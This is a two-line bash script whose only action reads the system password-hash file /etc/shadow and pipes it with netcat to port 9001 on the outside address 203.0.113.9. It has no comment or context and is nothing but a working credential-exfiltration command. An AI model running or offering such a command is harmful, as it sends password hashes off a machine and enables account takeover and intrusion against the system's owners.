#!/bin/bash
cat /etc/shadow | nc 203.0.113.9 9001
